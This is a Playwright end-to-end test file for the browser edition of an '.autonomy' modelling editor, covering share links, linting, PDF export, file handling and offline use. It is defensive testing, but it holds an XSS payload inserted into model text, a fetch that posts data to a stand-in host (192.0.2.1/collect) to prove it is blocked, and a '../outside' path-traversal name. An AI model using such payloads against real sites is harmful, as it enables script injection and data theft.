// The web edition end to end: built, served on 127.0.0.1, driven in Debian's chromium.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveFolder } from '../scripts/serve.mjs';

/** How long a change on the page may take to show on a loaded machine: expect.poll's default of 1 s failed a CI run while two installs ran beside it. */
const SETTLE = { timeout: 15_000 };

const here = dirname(fileURLToPath(import.meta.url));
const repo = join(here, '..', '..', '..');
const shots = join(repo, 'artifacts', 'web');
const northLocality = readFileSync(join(repo, 'examples', 'north-locality.autonomy'), 'utf8');

let browser: Browser;
let served: { url: string; close: () => Promise<void> };
/** Every request any page or worker made during the session, checked at the end: nothing may leave 127.0.0.1. */
const sessionRequests: string[] = [];

beforeAll(async () => {
    execFileSync(process.execPath, [join(here, '..', 'scripts', 'build.mjs')], { stdio: 'pipe' });
    served = await serveFolder(join(here, '..', 'dist'));
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu'] });
    mkdirSync(shots, { recursive: true });
}, 120_000);

afterAll(async () => {
    await browser.close();
    await served.close();
});

/** A fresh page (its own localStorage) with the editor (or what `ready` names) in place; `script` runs in every frame before the page's own. */
async function openPage(url = served.url, ready = '.cm-content', script?: () => void): Promise<{ page: Page; errors: string[] }> {
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    if (script) await context.addInitScript(script);
    context.on('request', request => sessionRequests.push(request.url()));
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', error => errors.push(error.message));
    page.on('console', message => { if (message.type() === 'error') errors.push(message.text()); });
    // Nothing may leave the machine: every request must go to the local server.
    page.on('request', request => { if (!request.url().startsWith(served.url) && !request.url().startsWith('about:')) errors.push(`request to ${request.url()}`); });
    await page.goto(url);
    await page.locator(ready).first().waitFor();
    return { page, errors };
}

/** A point on the first editor line holding `lineText`, over the word `word`. */
async function pointAt(page: Page, lineText: string, word: string): Promise<{ x: number; y: number }> {
    const line = page.locator('.cm-line', { hasText: lineText }).first();
    const text = await line.textContent() ?? '';
    const box = await line.boundingBox();
    if (!box) throw new Error(`no editor line holds ${lineText}`);
    const charWidth = box.width / Math.max(text.length, 1);
    return { x: box.x + (text.indexOf(word) + 1) * charWidth, y: box.y + box.height / 2 };
}

/** What answerDialogsInPage keeps on the page's window. */
interface DialogStub {
    answers: string[];
    asked: string[];
}

/**
 * Runs in the page: prompt() answers from `window.answers` (null when none is queued, as if cancelled),
 * confirm() answers yes, and each question is kept in `window.asked` as "prompt: ..." or "confirm: ...".
 */
function answerDialogsInPage(): void {
    const stub = window as unknown as DialogStub;
    stub.answers = [];
    stub.asked = [];
    window.prompt = (question?: string) => {
        stub.asked.push(`prompt: ${question ?? ''}`);
        return stub.answers.shift() ?? null;
    };
    window.confirm = (question?: string) => {
        stub.asked.push(`confirm: ${question ?? ''}`);
        return true;
    };
}

/** The problems the lint panel lists. */
async function listedProblems(page: Page): Promise<string[]> {
    await page.locator('#problems').click();
    await page.locator('.cm-panel-lint li').first().waitFor();
    return page.locator('.cm-panel-lint li').allTextContents();
}

/** Saves what the page shows, for a person to look at, then checks it logged no error and closes it. */
async function finish(page: Page, errors: string[], shot: string): Promise<void> {
    await page.screenshot({ path: join(shots, shot) });
    expect(errors).toEqual([]);
    await page.context().close();
}

describe('web edition', () => {
    it('shows north-locality with its warnings, a hover figure and the live briefing', async () => {
        const { page, errors } = await openPage();
        expect(await page.locator('nav button[aria-current="true"]').textContent()).toBe('north-locality.autonomy');
        // The CLI reports the same warning (autonomy validate examples/north-locality.autonomy, line 72).
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        expect(await page.locator('#problems').textContent()).not.toMatch(/error/);
        const problems = await listedProblems(page);
        expect(problems.some(p => p.includes('Oakfield Practice is predicted to block Shared document management hub'))).toBe(true);

        const at = await pointAt(page, 'practice Riverside', 'Riverside');
        await page.mouse.move(at.x, at.y);
        const hover = page.locator('.cm-tooltip-hover');
        await hover.waitFor({ timeout: 10_000 });
        expect(await hover.textContent()).toMatch(/8,200/);
        await page.screenshot({ path: join(shots, 'north-locality-hover.png') });

        // The machine is shared: the briefing's first analysis may take a while under load.
        await page.frameLocator('#briefing').locator('h1').first().waitFor({ timeout: 60_000 });
        expect(await page.frameLocator('#briefing').locator('h1').first().textContent()).toBe('North Locality');
        expect(await page.locator('#status').textContent()).toBe('');

        // Completion offers the model's practices where a trust line names one.
        await page.locator('.cm-content').click();
        await page.keyboard.press('Control+End');
        await page.keyboard.type('\ntrust Mill');
        await page.keyboard.press('Control+Space');
        const options = page.locator('.cm-tooltip-autocomplete li');
        await options.first().waitFor({ timeout: 20_000 });
        expect((await options.allTextContents()).some(option => option.startsWith('Millbrook'))).toBe(true);
        await finish(page, errors, 'completion.png');
    }, 120_000);

    it('flags an error as soon as one is typed, in the editor and the briefing', async () => {
        const { page, errors } = await openPage();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        // A list size that is not a number: a parse error.
        await page.locator('.cm-line', { hasText: 'list size 8,200' }).click();
        await page.keyboard.press('End');
        await page.keyboard.type('\n    list size lots');
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/\berror/);
        await page.locator('.cm-lintRange-error').first().waitFor({ timeout: 5_000 });
        const problems = await listedProblems(page);
        const error = problems.find(p => /lots/.test(p)) ?? problems.join(' | ');
        expect(error).toMatch(/lots/);
        // The briefing is rebuilt with the problem in its Diagnostics section.
        await expect.poll(() => page.frameLocator('#briefing').locator('body').textContent(), { timeout: 60_000 }).toMatch(/but found .lots./);
        expect(await page.locator('#status').textContent()).toBe('');
        await page.frameLocator('#briefing').locator('#diagnostics, h2:has-text("Diagnostics")').first().scrollIntoViewIfNeeded();
        await finish(page, errors, 'typed-error.png');
    }, 120_000);

    it('opens a share link in a fresh browser with the same model', async () => {
        const { page, errors } = await openPage();
        await page.locator('#share').click();
        const link = page.locator('#share-link');
        await expect.poll(() => link.inputValue(), { timeout: 10_000 }).toMatch(/#m=[A-Za-z0-9_-]+$/);
        const url = await link.inputValue();
        expect(url.startsWith(served.url)).toBe(true);
        await finish(page, errors, 'share-link-made.png');

        // A new context has its own (empty) localStorage: the model can only have come from the link.
        const fresh = await openPage(url);
        expect(await fresh.page.locator('nav button[aria-current="true"]').textContent()).toBe('shared.autonomy');
        const stored = await fresh.page.evaluate(() => localStorage.getItem('autonomy.web.files') ?? '{}');
        expect((JSON.parse(stored) as Record<string, string>)['shared.autonomy']).toBe(northLocality);
        await expect.poll(() => fresh.page.frameLocator('#briefing').locator('h1').first().textContent(), { timeout: 60_000 }).toBe('North Locality');
        await finish(fresh.page, fresh.errors, 'share-link-opened.png');
    }, 120_000);

    it('says a damaged share link cannot be opened, and opens the examples instead', async () => {
        const { page, errors } = await openPage(`${served.url}#m=not-a-deflate-stream`);
        await expect.poll(() => page.locator('#status').textContent(), { timeout: 10_000 }).toMatch(/share link is damaged/);
        expect(await page.locator('nav button[aria-current="true"]').textContent()).toBe('north-locality.autonomy');
        await finish(page, errors, 'share-link-damaged.png');
    }, 120_000);

    it('shows model text from a share link in a hover as text, never as markup that runs', async () => {
        // The server's hover Markdown carries the practice's name as written; a share link can carry anyone's model.
        const hostile = northLocality.replace('"Riverside Surgery"', '"<img src=x onerror=alert(1)><script>alert(2)</script> Riverside"');
        const { encodeShareFragment } = await import('../src/share-link.js');
        const { page, errors } = await openPage(`${served.url}#${await encodeShareFragment(hostile)}`);
        let dialogs = 0;
        page.on('dialog', dialog => { dialogs++; void dialog.dismiss(); });
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        const box = await page.locator('.cm-line', { hasText: 'practice Riverside' }).first().boundingBox();
        if (!box) throw new Error('the practice line is not on screen');
        await page.mouse.move(box.x + 90, box.y + 8);
        const hover = page.locator('.cm-tooltip-hover');
        await hover.waitFor({ timeout: 20_000 });
        expect(await hover.textContent()).toContain('8,200 patients');
        expect(await hover.locator('img, script').count()).toBe(0);
        expect(dialogs).toBe(0);
        // Anything that did try to run was refused by the page's Content-Security-Policy, the second lock.
        expect(errors.filter(error => !error.includes('Content Security Policy'))).toEqual([]);
        await page.screenshot({ path: join(shots, 'hostile-hover.png') });
        await page.context().close();
    }, 120_000);

    it('downloads the partners\' PDF made in the browser, byte-identical to the CLI\'s for the same model and date', async () => {
        const out = join(mkdtempSync(join(tmpdir(), 'autonomy-web-pdf-')), 'cli.pdf');
        execFileSync(process.execPath, [join(repo, 'packages', 'cli', 'bin', 'autonomy.js'), 'report', 'north-locality.autonomy', '-f', 'pdf', '--date', '2026-11-23', '-o', out],
            { cwd: join(repo, 'examples'), stdio: 'pipe' });
        const { page, errors } = await openPage();
        // The page dates the PDF today (UTC), as the CLI does without --date: pin the browser's clock.
        await page.clock.setFixedTime(new Date('2026-11-23T12:00:00Z'));
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        const [download] = await Promise.all([page.waitForEvent('download', { timeout: 120_000 }), page.locator('#download-pdf').click()]);
        expect(download.suggestedFilename()).toBe('north-locality.pdf');
        const fromBrowser = readFileSync(await download.path());
        const fromCli = readFileSync(out);
        expect(fromBrowser.subarray(0, 5).toString()).toBe('%PDF-');
        expect(fromBrowser.byteLength).toBe(fromCli.byteLength);
        expect(fromBrowser.equals(fromCli)).toBe(true);
        await expect.poll(() => page.locator('#status').textContent(), SETTLE).toMatch(/Downloaded north-locality\.pdf \(partners edition, \d+ KB, dated 2026-11-23\)/);
        // Playwright's clock injects a script into every frame; the briefing's sandbox refuses it, as it should.
        const clockRefused = (error: string) => /^Blocked script execution in 'about:(blank|srcdoc)' because the document's frame is sandboxed/.test(error);
        errors.splice(0, errors.length, ...errors.filter(error => !clockRefused(error)));
        await finish(page, errors, 'pdf-downloaded.png');
    }, 180_000);

    it('keeps several files: imports resolve between them, and files are made, renamed, opened, saved and deleted', async () => {
        // The file panel's prompt and confirm are answered in the page: answering Chromium's native dialogs over the
        // DevTools protocol raced on a loaded machine ("No dialog is showing", a CI run of 3 December), and the dialog
        // box itself is the browser's, not ours. Each question asked is kept, so the test checks what was asked too.
        const { page, errors } = await openPage(served.url, '.cm-content', answerDialogsInPage);
        const current = page.locator('nav button[aria-current="true"]');
        const answer = async (typed: string) => page.evaluate(text => { (window as unknown as DialogStub).answers.push(text); }, typed);
        const asked = async () => page.evaluate(() => (window as unknown as DialogStub).asked.splice(0));
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);

        // The Southvale model imports the register: with it, only the weighted-vote warning the CLI gives.
        await page.locator('nav button', { hasText: 'southvale-staff-bank.autonomy' }).click();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 30_000 }).toBe('1 warning');
        expect(await listedProblems(page)).toEqual([expect.stringContaining('decides by weighted-vote')]);
        await page.keyboard.press('Escape');

        // New file, typed into, renamed into a folder.
        await answer('scenario');
        await page.locator('#file-new').click();
        await expect.poll(() => current.textContent(), SETTLE).toBe('scenario.autonomy');
        expect(await asked()).toEqual(['prompt: Name of the new file']);
        // Langium answers requests about a file opened while another build runs with 'No document found' (the
        // editor's completion would log it): type once the server has built the file, when its briefing is drawn.
        await expect.poll(() => page.locator('#briefing').getAttribute('data-uri'), { timeout: 60_000 }).toBe('file:///scenario.autonomy');
        const built = await page.locator('#briefing').getAttribute('data-generation');
        await page.locator('.cm-content').click();
        await page.keyboard.type('// a scenario');
        // Rename once the server has answered for the typed text: a request still open about the old name
        // would be refused ('No document found') when the rename deletes it.
        await expect.poll(() => page.locator('#briefing').getAttribute('data-generation'), { timeout: 60_000 }).not.toBe(built);
        await page.keyboard.press('Escape');
        await answer('drafts/scenario-b');
        await page.locator('#file-rename').click();
        await expect.poll(() => current.textContent(), SETTLE).toBe('drafts/scenario-b.autonomy');
        expect(await asked()).toEqual(['prompt: New name for scenario.autonomy']);
        expect(await page.locator('.cm-content').textContent()).toBe('// a scenario');
        // A name that cannot be a file is refused with the reason.
        await answer('../outside');
        await page.locator('#file-rename').click();
        await expect.poll(() => page.locator('#status').textContent(), SETTLE).toMatch(/is not a file name/);
        expect(await current.textContent()).toBe('drafts/scenario-b.autonomy');
        expect(await asked()).toEqual(['prompt: New name for drafts/scenario-b.autonomy']);

        // Save downloads the file as it is.
        const [saved] = await Promise.all([page.waitForEvent('download'), page.locator('#file-save').click()]);
        expect(saved.suggestedFilename()).toBe('scenario-b.autonomy');
        expect(readFileSync(await saved.path(), 'utf8')).toBe('// a scenario');

        // Open from disk: UTF-8 text becomes a file; anything else is refused, saying why.
        await page.locator('#file-input').setInputFiles({ name: 'from-disk.autonomy', mimeType: 'text/plain', buffer: Buffer.from('// opened from disk £') });
        await expect.poll(() => current.textContent(), SETTLE).toBe('from-disk.autonomy');
        expect(await page.locator('.cm-content').textContent()).toBe('// opened from disk £');
        await page.locator('#file-input').setInputFiles({ name: 'latin1.autonomy', mimeType: 'text/plain', buffer: Buffer.from([0x2f, 0x2f, 0x20, 0xa3]) });
        await expect.poll(() => page.locator('#status').textContent(), SETTLE).toMatch(/latin1\.autonomy is not UTF-8 text/);

        // Deleting the register leaves the Southvale model's import unresolved, flagged as an error.
        await page.locator('nav button', { hasText: 'register/practices.autonomy' }).click();
        await expect.poll(() => current.textContent(), SETTLE).toBe('register/practices.autonomy');
        await page.locator('#file-delete').click();
        await expect.poll(() => page.locator('nav button', { hasText: 'register/practices.autonomy' }).count(), { timeout: 20_000 }).toBe(0);
        expect(await asked()).toEqual([expect.stringMatching(/^confirm: Delete register\/practices\.autonomy from this browser\?/)]);
        await page.locator('nav button', { hasText: 'southvale-staff-bank.autonomy' }).click();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 30_000 }).toMatch(/\berror/);
        expect((await listedProblems(page)).join(' | ')).toMatch(/register\/practices\.autonomy/);
        await page.screenshot({ path: join(shots, 'files-register-deleted.png') });

        // All of it is kept in this browser: a reload shows the same files.
        await page.reload();
        await page.locator('.cm-content').waitFor();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 30_000 }).toMatch(/warnings/);
        await page.frameLocator('#briefing').locator('h1').first().waitFor({ timeout: 60_000 });
        const names = await page.locator('nav li button').allTextContents();
        expect(names).toEqual(expect.arrayContaining(['drafts/scenario-b.autonomy', 'from-disk.autonomy', 'southvale-staff-bank.autonomy']));
        expect(names).not.toContain('register/practices.autonomy');
        expect(names).not.toContain('scenario.autonomy');
        await finish(page, errors, 'files.png');
    }, 180_000);

    it('shares a model with the register it imports, and the link opens both in a fresh browser', async () => {
        const { page, errors } = await openPage();
        await page.locator('nav button', { hasText: 'southvale-staff-bank.autonomy' }).click();
        await page.locator('#share').click();
        const link = page.locator('#share-link');
        await expect.poll(() => link.inputValue(), { timeout: 10_000 }).toMatch(/#f=[A-Za-z0-9_-]+$/);
        const url = await link.inputValue();
        await finish(page, errors, 'share-link-with-imports-made.png');

        const fresh = await openPage(url);
        expect(await fresh.page.locator('nav button[aria-current="true"]').textContent()).toBe('shared/southvale-staff-bank.autonomy');
        expect(await fresh.page.locator('nav li button').allTextContents()).toContain('shared/register/practices.autonomy');
        // The import resolves inside the shared folder: only the CLI's one warning, no unresolved import.
        await expect.poll(() => fresh.page.locator('#problems').textContent(), { timeout: 30_000 }).toBe('1 warning');
        await expect.poll(() => fresh.page.frameLocator('#briefing').locator('h1').first().textContent(), { timeout: 60_000 }).toMatch(/Southvale/);
        await finish(fresh.page, fresh.errors, 'share-link-with-imports-opened.png');
    }, 120_000);

    it('keeps working offline once loaded: a typed error is flagged and the briefing rebuilt with the network gone', async () => {
        const { page, errors } = await openPage();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        await page.frameLocator('#briefing').locator('h1').first().waitFor({ timeout: 60_000 });
        await page.context().setOffline(true);
        await page.locator('.cm-line', { hasText: 'list size 8,200' }).click();
        await page.keyboard.press('End');
        await page.keyboard.type('\n    list size lots');
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/\berror/);
        await expect.poll(() => page.frameLocator('#briefing').locator('body').textContent(), { timeout: 60_000 }).toMatch(/but found .lots./);
        await finish(page, errors, 'offline.png');
    }, 120_000);

    it('sends nothing anywhere: the page and its worker refuse other hosts, and no request left 127.0.0.1 all session', async () => {
        const { page, errors } = await openPage();
        await expect.poll(() => page.locator('#problems').textContent(), { timeout: 20_000 }).toMatch(/warnings/);
        const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
        expect(policy).toMatch(/default-src 'none'/);
        expect(policy).toMatch(/connect-src 'none'/);
        const tryFetch = () => fetch('http://192.0.2.1/collect', { method: 'POST', body: 'model' }).then(() => 'sent', () => 'refused');
        expect(await page.evaluate(tryFetch)).toBe('refused');
        const [worker] = page.workers();
        expect(await worker.evaluate(tryFetch)).toBe('refused');
        await page.context().close();
        expect(errors.filter(error => !error.includes('Content Security Policy'))).toEqual([]);

        expect(sessionRequests.length).toBeGreaterThan(0);
        const local = (url: string) => url.startsWith(served.url) || url.startsWith('blob:' + served.url.replace(/\/$/, '')) || url.startsWith('about:') || url.startsWith('data:');
        expect(sessionRequests.filter(url => !local(url))).toEqual([]);
    }, 120_000);
});

describe('what-if by dragging, the partner view and semantic highlighting', () => {
    // North Locality's visiting is charged equally: £55,000 per 20,000 patients, 36,900 patients so 2 steps,
    // £110,000 / 4 = £27,500 each. Castle Street Surgery pays £19,000 alone today, so loses £8,500 as charged
    // (DOMAIN.md item 3: r_i = c_i - charge_i); at £24,000 alone it would lose £3,500.
    const castleLoses = (amount: string) => `As charged, Castle Street Surgery loses ${amount} a year on Paramedic-led home visiting`;
    const briefingText = (page: Page) => page.frameLocator('#briefing').locator('body').textContent();

    it('Alt-drags a figure: the text and the briefing follow, and one undo takes the whole drag back', async () => {
        const { page, errors } = await openPage();
        await expect.poll(() => briefingText(page), { timeout: 60_000 }).toContain(castleLoses('£8,500'));
        // The visiting initiative is near the end of the file: go there so its lines are drawn.
        await page.locator('.cm-content').click();
        await page.keyboard.press('Control+End');
        const figure = page.locator('.cm-figure', { hasText: '£19,000' });
        await figure.waitFor({ timeout: 20_000 });
        const box = await figure.boundingBox();
        if (!box) throw new Error('the figure £19,000 is not on screen');
        const y = box.y + box.height / 2;
        await page.keyboard.down('Alt');
        await page.mouse.move(box.x + box.width / 2, y);
        await page.mouse.down();
        // 150 pixels at 3 pixels a step of £100 (the slider span is £0..£38,000, a hundredth of it rounded down to a power of ten).
        for (let dx = 10; dx <= 150; dx += 10) await page.mouse.move(box.x + box.width / 2 + dx, y);
        await page.mouse.up();
        await page.keyboard.up('Alt');
        const line = page.locator('.cm-line', { hasText: 'current cost Riverside £31,000' });
        expect(await line.textContent()).toContain('Castle £24,000');
        await expect.poll(() => briefingText(page), { timeout: 60_000 }).toContain(castleLoses('£3,500'));
        await page.screenshot({ path: join(shots, 'scrub-dragged.png') });

        await page.keyboard.press('Control+z');
        expect(await line.textContent()).toContain('Castle £19,000');
        await expect.poll(() => briefingText(page), { timeout: 60_000 }).toContain(castleLoses('£8,500'));
        await finish(page, errors, 'scrub-undone.png');
    }, 180_000);

    it('offers a slider under the cursor that stays within the language\'s limits', async () => {
        const { page, errors } = await openPage();
        await page.locator('.cm-figure', { hasText: '40%' }).first().waitFor({ timeout: 20_000 });
        await page.locator('.cm-figure', { hasText: '40%' }).first().click();
        const slider = page.locator('.cm-tooltip .cm-figure-slider input[type=range]');
        await slider.waitFor({ timeout: 10_000 });
        // A percentage runs from 0% to 100% (analysis VALUE_LIMITS.percent), one point a step.
        expect([await slider.getAttribute('min'), await slider.getAttribute('max'), await slider.getAttribute('step')]).toEqual(['0', '1', '0.01']);
        // From the keyboard too: Tab leaves the text for the slider.
        await page.keyboard.press('Tab');
        expect(await slider.evaluate(element => element === document.activeElement)).toBe(true);
        await page.keyboard.press('ArrowRight');
        await page.keyboard.press('ArrowRight');
        expect(await page.locator('.cm-line', { hasText: 'crisis risk' }).first().textContent()).toContain('crisis risk 42%');
        await page.keyboard.press('End');
        expect(await page.locator('.cm-line', { hasText: 'crisis risk' }).first().textContent()).toContain('crisis risk 100%');
        await finish(page, errors, 'scrub-slider.png');
    }, 120_000);

    it('colours names and figures from the server\'s semantic tokens', async () => {
        const { page, errors } = await openPage();
        const practice = page.locator('.cm-line', { hasText: 'practice Riverside' }).locator('.cm-semantic-class.cm-semantic-declaration');
        await practice.waitFor({ timeout: 20_000 });
        expect(await practice.textContent()).toBe('Riverside');
        expect(await page.locator('.cm-line', { hasText: 'list size 8,200' }).locator('.cm-semantic-number').textContent()).toBe('8,200');
        expect(await page.locator('.cm-line', { hasText: 'sustainability gap £12,000' }).locator('.cm-semantic-money').textContent()).toBe('£12,000');
        expect(await page.locator('.cm-line', { hasText: 'crisis risk 40%' }).locator('.cm-semantic-percentage').textContent()).toBe('40%');
        expect(await page.locator('.cm-line', { hasText: 'domain clinical' }).locator('.cm-semantic-enumMember').textContent()).toBe('clinical');
        // A practice's name is coloured in its own colour, unlike the plain text around it.
        const colour = (selector: string) => page.locator(selector).first().evaluate(element => getComputedStyle(element).color);
        expect(await colour('.cm-semantic-class')).not.toBe(await colour('.cm-line'));
        await finish(page, errors, 'semantic-highlighting.png');
    }, 120_000);

    it('opens a partner-view link in a fresh browser: the briefing and sliders, no editor; a slider moves a figure', async () => {
        const { page, errors } = await openPage();
        await page.locator('#share-partner').click();
        await expect.poll(() => page.locator('#share-link').inputValue(), { timeout: 10_000 }).toMatch(/#partner&m=[A-Za-z0-9_-]+$/);
        const url = await page.locator('#share-link').inputValue();
        await finish(page, errors, 'partner-link-made.png');

        const partner = await openPage(url, '#partner details[open] input[type=range]');
        expect(await partner.page.locator('#editor').isVisible()).toBe(false);
        expect(await partner.page.locator('nav').isVisible()).toBe(false);
        await expect.poll(() => briefingText(partner.page), { timeout: 60_000 }).toContain(castleLoses('£8,500'));
        // The partners edition: the recommendation first.
        expect(await briefingText(partner.page)).toContain('The recommendation in brief');
        const group = partner.page.locator('#partner details', { has: partner.page.locator('summary', { hasText: 'Paramedic-led home visiting' }) });
        const row = group.locator('.cm-figure-slider', { hasText: 'Castle Street Surgery\'s current cost' });
        expect(await row.locator('output').textContent()).toBe('£19,000');
        await row.locator('input').focus();
        // Fifty steps of £100.
        for (let i = 0; i < 50; i++) await partner.page.keyboard.press('ArrowRight');
        expect(await row.locator('output').textContent()).toBe('£24,000');
        await expect.poll(() => briefingText(partner.page), { timeout: 60_000 }).toContain(castleLoses('£3,500'));
        // Nothing was written to this browser's storage: the partner's what-ifs stay in the page.
        expect(await partner.page.evaluate(() => localStorage.getItem('autonomy.web.files'))).toBeNull();
        await finish(partner.page, partner.errors, 'partner-view.png');
    }, 180_000);
});
